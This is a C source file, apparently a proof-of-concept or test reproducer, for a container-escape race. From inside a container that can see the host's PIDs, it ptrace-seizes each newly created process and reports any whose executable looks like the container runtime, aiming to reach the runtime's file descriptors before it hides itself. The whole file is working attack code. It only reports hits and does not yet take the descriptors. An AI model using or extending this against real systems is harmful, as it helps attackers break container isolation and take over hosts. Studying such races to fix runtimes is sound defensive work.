/*
 * An attack from inside a container that sees the host's processes: it tries to trace every new
 * one, all the time, and tells of each that is no program yet that was meant to be inside, but the
 * runtime's own. By that it would have the runtime's descriptors.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/wait.h>
#include <unistd.h>

#define WINDOW 6 /* of pids up to the newest */

static pid_t newest(int loadavg)
{
	char text[128];
	ssize_t n = pread(loadavg, text, sizeof(text) - 1, 0);
	char *last;

	text[n < 0 ? 0 : n] = '\0';
	last = strrchr(text, ' ');
	return last ? atoi(last) : 0;
}

/*
 * The runtime's file is in no mount namespace, or in memory: neither has a name with a directory.
 * And it takes itself from sight (not dumpable), which comes too late for it.
 */
static bool is_runtime(const char *exe)
{
	return !*exe || strcmp(exe, "/") == 0 || strncmp(exe, "/memfd:", 7) == 0;
}

/* It has been stopped, at the latest where it would become another program, or end. */
static void look_at(pid_t pid)
{
	char path[64];
	char exe[256];
	ssize_t n;
	int status;

	ptrace(PTRACE_INTERRUPT, pid, NULL, NULL);
	if (waitpid(pid, &status, __WALL) != pid || !WIFSTOPPED(status))
		return;
	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	n = readlink(path, exe, sizeof(exe) - 1);
	exe[n < 0 ? 0 : n] = '\0';
	if (is_runtime(exe))
		dprintf(1, "hit %d %s\n", pid, exe);
	ptrace(PTRACE_DETACH, pid, NULL, NULL);
}

int main(void)
{
	int loadavg = open("/proc/loadavg", O_RDONLY | O_CLOEXEC);
	pid_t own = getpid();
	pid_t seen[256] = { 0 };

	dprintf(1, "ready\n");
	for (;;) {
		pid_t last = newest(loadavg);

		for (pid_t pid = last > WINDOW ? last - WINDOW : 1; pid <= last; pid++) {
			if (pid == own || seen[pid % 256] == pid ||
			    ptrace(PTRACE_SEIZE, pid, NULL, PTRACE_O_TRACEEXIT) < 0)
				continue;
			seen[pid % 256] = pid;
			look_at(pid);
		}
	}
}
